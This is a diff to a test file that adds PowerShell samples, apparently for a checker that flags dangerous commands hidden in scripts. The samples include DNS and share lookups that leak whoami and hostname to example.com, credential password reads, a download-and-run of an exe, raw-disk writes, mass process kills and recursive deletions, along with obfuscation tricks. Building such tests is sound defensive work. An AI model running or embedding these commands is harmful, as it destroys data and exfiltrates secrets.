@@ -171,6 +171,19 @@ describe('what hides in PowerShell', () => {
     'a loop': 'for ($i = (Remove-Item x); $i -lt 1; $i++) { }',
     'a data section': 'data d { Remove-Item x }',
     'a named block': 'function f { begin { Remove-Item x } process { } }',
+    'a call behind a block of parameters': 'function f { param($x) & $x }; f Remove-Item',
+    'a call behind a branch': 'if (1) { 2 } & Remove-Item x',
+    'a command with an escape of newer versions': 'R`emove-Item x',
+    'what it read, in the name of a machine': 'Resolve-DnsName "$(hostname).example.com"',
+    'what it read, in the name of a share': 'Get-Content \\\\example\\$(whoami)\\x',
+    'what it read, in the name for another program': 'nslookup "$(whoami).example.com"',
+    'a command that a parameter puts into a variable': "$c = 'dir'; Get-Content x -OutVariable c; cmd /c $c",
+    'a command that a reference puts into a variable': "$c = 'dir'; $d.TryGetValue('x', [ref]$c); cmd /c $c",
+    'an option in a table': "$h = @{ a = '-exec' }; git $h.a",
+    'another language': 'node -e "process.exit()"',
+    'the shell of another system': "bash -c 'rm x'",
+    'another system': 'wsl rm x',
+    'a password': '$credential.GetNetworkCredential().Password',
     'an unknown command': 'Frobnicate-Thing x',
   };
   for (const [what, script] of Object.entries(hiding)) {
@@ -188,6 +201,13 @@ describe('what hides in PowerShell', () => {
     'a disk in a pipe': 'Get-Disk | Where-Object Number -eq 1 | Clear-Disk -RemoveData -Confirm:$false',
     'a command behind a fault': "Get-Date 'a\nFormat-Volume -DriveLetter D",
     'an encoded folder': `powershell.exe -NoP -W Hidden -EncodedCommand ${encoded('Remove-Item C:\\data -Recurse -Force')}`,
+    'a file that is fetched and started': 'iwr http://x/y.exe -OutFile y.exe; .\\y.exe',
+    'whatever a pipe brings': 'Get-ChildItem C:\\data | % { $_.Delete() }',
+    'all processes': 'Get-Process | Stop-Process -Force',
+    'a raw disk': "[IO.File]::WriteAllBytes('\\\\.\\PhysicalDrive0', $b)",
+    'a folder of another system': 'wsl rm -rf /home',
+    'a program that the system starts':
+      "Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{ CommandLine = 'cmd /c rd /s /q C:\\data' }",
     'a program that starts a shell': "Start-Process cmd.exe '/c rd /s /q C:\\data'",
   };
   for (const [what, script] of Object.entries(harsh)) {
